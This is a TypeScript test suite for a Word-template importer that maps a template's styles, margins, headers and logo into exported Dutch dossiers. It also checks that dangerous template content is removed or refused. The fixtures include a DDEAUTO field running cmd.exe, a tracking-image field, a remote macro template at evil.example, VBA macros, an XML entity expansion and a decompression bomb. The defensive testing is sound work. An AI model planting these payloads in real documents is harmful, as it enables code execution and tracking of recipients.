import { strToU8 } from 'fflate'
import { describe, expect, test } from 'vitest'
import { renderExport } from '../../../../../src-core/export/formats/render-export'
import type { WordTemplate } from '../../../../../src-core/export/word-looks/word-template'
import { EVERYTHING } from '../../../../../src-core/query/filter'
import { limitsFor } from '../../../../../src-main/import/decoding/limits'
import { startNodeReader } from '../../../../../src-main/import/reader/start-node-reader'
import { templateApart } from '../../../../../src-main/import/reader/template-apart'
import { readTemplate } from '../../../../../src-main/import/word-template/read-template'
import { openArchive } from '../../../../../src-main/import/zip/open-archive'
import { fullSource } from '../../../src-core/export/word/full-paper'
import { readWord } from '../../../src-core/export/word/read-word'
import { fileOf } from '../make-files'
import { field, makeTemplate, PIXEL, picture, STYLES, type TemplateLook } from './make-template'

const read = (look: TemplateLook = {}, name = 'huisstijl.dotx') => readBytes(makeTemplate(look), name)
const readBytes = (bytes: Uint8Array, name = 'huisstijl.dotx') =>
  readTemplate({ name, bytes, limits: limitsFor(bytes.byteLength) })
const headerOf = ({ edges }: WordTemplate) =>
  edges.find(({ kind, on }) => kind === 'header' && on === 'default')?.content ?? ''

/** A dossier with a template’s looks: its bytes, and its parts as text. */
async function dossier(template: WordTemplate, format: 'word' | 'word-paper' = 'word') {
  const { content } = await renderExport(
    { ...fullSource, template },
    { format, groupBy: 'theme', filter: EVERYTHING, documentId: null, language: 'nl', marks: 'left-out' },
  )
  const bytes = content as Uint8Array
  const archive = await openArchive(fileOf('dossier.docx', bytes))
  const part = async (name: string) =>
    new TextDecoder().decode((await archive.read(name)) ?? new Uint8Array())
  return { bytes, archive, part }
}

describe('a template of one’s own', () => {
  test.each(['word', 'word-paper'] as const)(
    'gives a %s its styles by their names, its page, its head and its logo',
    async format => {
      const { bytes, archive, part } = await dossier(await read(), format)
      const word = await readWord(bytes)
      const used = new Set(word.paragraphs.map(({ style }) => style))
      expect(used).toContain('Kop1')
      expect(used).toContain('Citaat')
      expect(used).not.toContain('Heading1')
      const styles = await part('word/styles.xml')
      expect(styles.match(/w:styleId="Kop1"/g)).toHaveLength(1)
      expect(styles).not.toContain('w:styleId="Heading1"')
      expect(styles.match(/w:default="1"/g)).toHaveLength(4)
      const document = await part('word/document.xml')
      expect(document).toContain('<w:pgMar w:top="2400" w:right="1200" w:bottom="1300" w:left="3200"')
      expect(document).not.toContain('Tekst die niet meegaat')
      expect(await part('word/template-header-default.xml')).toContain('Ministerie van Toetsen')
      expect(await part('word/template-header-first.xml')).toContain('Alleen op de eerste bladzijde')
      expect(await archive.read('word/media/template1.png')).toEqual(Buffer.from(PIXEL))
      expect(await part('word/theme/theme1.xml')).toContain('DejaVu Serif')
    },
  )

  test('names every style that is written, and no style twice', async () => {
    for (const format of ['word', 'word-paper'] as const) {
      const { part } = await dossier(await read(), format)
      const ids = [...(await part('word/styles.xml')).matchAll(/w:styleId="([^"]*)"/g)].map(found => found[1])
      expect(new Set(ids).size).toBe(ids.length)
      const written = ['document', 'footnotes', 'comments', 'header1', 'footer1']
      const all = (await Promise.all(written.map(name => part(`word/${name}.xml`)))).join('')
      for (const [, id] of all.matchAll(/<w:(?:pStyle|rStyle|tblStyle) w:val="([^"]*)"/g))
        expect(ids).toContain(id)
      for (const [, id] of (await part('word/styles.xml')).matchAll(/<w:basedOn w:val="([^"]*)"/g))
        expect(ids).toContain(id)
    }
  })

  test('keeps its numbered headings, and counts its own lists beside them', async () => {
    const template = await read()
    expect(template.styles).toContain('<w:numId w:val="7"/>')
    // The template names list 99, which it does not have.
    expect(template.styles).not.toContain('"99"')
    const numbering = await (await dossier(template)).part('word/numbering.xml')
    const abstracts = [...numbering.matchAll(/<w:abstractNum w:abstractNumId="(\d+)"/g)].map(
      found => found[1],
    )
    const lists = [...numbering.matchAll(/<w:num w:numId="(\d+)"/g)].map(found => found[1])
    expect(new Set(abstracts).size).toBe(abstracts.length)
    expect(new Set(lists).size).toBe(lists.length)
    const named = [...numbering.matchAll(/<w:abstractNumId w:val="(\d+)"/g)].map(found => found[1])
    for (const id of named) expect(abstracts).toContain(id)
    const used = [
      ...(await (await dossier(template)).part('word/document.xml')).matchAll(/<w:numId w:val="(\d+)"/g),
    ]
    expect(used.length).toBeGreaterThan(0)
    for (const [, id] of used) {
      expect(lists).toContain(id)
      expect(id).not.toBe('7')
    }
  })

  test('makes tables as wide as its pages have room', async () => {
    const { part } = await dossier(await read())
    const widths = [...(await part('word/document.xml')).matchAll(/<w:tblW w:w="(\d+)"/g)].map(found =>
      Number(found[1]),
    )
    expect(widths.length).toBeGreaterThan(0)
    for (const width of widths) expect(width).toBeLessThanOrEqual(11_906 - 3200 - 1200)
  })

  test('comes over from the process that reads it as it was read', async () => {
    const bytes = makeTemplate()
    expect(await templateApart(startNodeReader)('huisstijl.dotx', bytes)).toEqual(await read())
  })
})

describe('what is in a template that must not go into what one hands in', () => {
  test.each([
    [
      'a field that fetches a file',
      field('INCLUDEPICTURE "http://example.org/spy.png"', 'plaatje'),
      'plaatje',
    ],
    ['a field that starts a program', field('DDEAUTO c:\\\\cmd.exe "/k calc"', 'tekst'), 'tekst'],
    [
      'a field whose code is in pieces',
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>erna</w:t></w:r>',
      'erna',
    ],
    [
      'a field whose code holds another',
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>${field('LINK x', 'y')}<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>erna</w:t></w:r>`,
      'erna',
    ],
    [
      'a simple field',
      '<w:fldSimple w:instr=" MACROBUTTON Doe "><w:r><w:t>klik</w:t></w:r></w:fldSimple>',
      'klik',
    ],
  ])('%s', async (_, run, shown) => {
    const template = await read({ header: `<w:p>${run}</w:p>` })
    const header = headerOf(template)
    expect(header).toContain(shown)
    expect(header).not.toMatch(/INCLUDE|DDE|LINK|MACRO|fldChar|instrText|fldSimple/)
    expect(template.leftOut).toContain('fields')
  })

  test('a field of the page stays', async () => {
    const template = await read({ header: `<w:p>${field(' PAGE \\* MERGEFORMAT ', '1')}</w:p>` })
    expect(headerOf(template)).toContain('PAGE')
    expect(template.leftOut).not.toContain('fields')
  })

  test.each([
    ['a link', '<w:hyperlink r:id="rId9"><w:r><w:t>woorden</w:t></w:r></w:hyperlink>', 'links'],
    ['a picture that is fetched', `${picture('rId9')}<w:r><w:t>woorden</w:t></w:r>`, 'pictures'],
    [
      'a link on a picture',
      `${picture(
        'rId1',
        '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rId9"/>',
      )}<w:r><w:t>woorden</w:t></w:r>`,
      'links',
    ],
    [
      'an object',
      '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId9"/></w:object></w:r><w:r><w:t>woorden</w:t></w:r>',
      'objects',
    ],
  ])('%s', async (_, run, told) => {
    const template = await read({
      header: `<w:p>${run}</w:p>`,
      headerLinks:
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://example.org/x" TargetMode="External"/>',
    })
    expect(template.leftOut).toContain(told)
    const { archive, bytes } = await dossier(template)
    await readWord(bytes)
    for (const name of archive.names) {
      if (name.startsWith('word/media/')) continue
      const text = new TextDecoder().decode((await archive.read(name)) ?? new Uint8Array())
      if (name.includes('template-header')) expect(text).not.toContain('rId9')
      expect(text).not.toContain('example.org/x')
    }
    expect(headerOf(template)).toContain('woorden')
  })

  test('another template that it was made of, and a picture that is none', async () => {
    const template = await read({
      parts: {
        'word/_rels/settings.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
        'word/media/image1.png': strToU8('<html>'),
      },
    })
    expect(template.leftOut).toEqual(['text', 'links', 'pictures'])
    const { archive, part } = await dossier(template)
    for (const name of archive.names) expect(await part(name)).not.toContain('evil.example')
  })

  test('words of its text and signs of XML in it come over as words', async () => {
    const template = await read({ header: '<w:p><w:r><w:t>a &lt;w:p&gt; &amp; “b”</w:t></w:r></w:p>' })
    expect(headerOf(template)).toContain('a &lt;w:p&gt; &amp; “b”')
  })
})

describe('a file that is refused, by its name and with the reason', () => {
  const MAIN = 'application/vnd'
  test.each([
    [
      'macros, by its type',
      makeTemplate({ main: `${MAIN}.ms-word.template.macroEnabledTemplate.main+xml` }),
      'macros',
    ],
    [
      'macros, by what it holds',
      makeTemplate({ parts: { 'word/vbaProject.bin': new Uint8Array(9) } }),
      'macros',
    ],
    [
      'a workbook',
      makeTemplate({ main: `${MAIN}.openxmlformats-officedocument.spreadsheetml.sheet.main+xml` }),
      'not-word',
    ],
    ['a text', strToU8('Geen sjabloon'), 'not-word'],
    ['half of one', makeTemplate().slice(0, 900), 'cut-off'],
    [
      'entities',
      makeTemplate({
        parts: { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>' },
      }),
      'document-type',
    ],
    ['styles that are no XML', makeTemplate({ parts: { 'word/styles.xml': '<w:styles' } }), 'not-xml'],
    [
      'the strict form',
      makeTemplate({
        parts: {
          'word/document.xml':
            '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body/></w:document>',
        },
      }),
      'strict',
    ],
    [
      'a bomb',
      makeTemplate({ parts: { 'word/styles.xml': `<x>${' '.repeat(120_000_000)}</x>` } }),
      'inflated',
    ],
    [
      'depth without end',
      makeTemplate({ parts: { 'word/header1.xml': `<x>${'<y>'.repeat(5000)}${'</y>'.repeat(5000)}</x>` } }),
      'depth',
    ],
  ])('%s', async (_, bytes, kind) => {
    await expect(readBytes(bytes, 'stuk.dotx')).rejects.toMatchObject({
      message: expect.stringContaining('stuk.dotx'),
      fault: { kind },
    })
  })

  test('no styles at all', async () => {
    await expect(read({ parts: { 'word/styles.xml': '' } })).rejects.toMatchObject({
      fault: { kind: 'incomplete' },
    })
    expect((await read({ styles: STYLES })).known.length).toBe(12)
  })
})
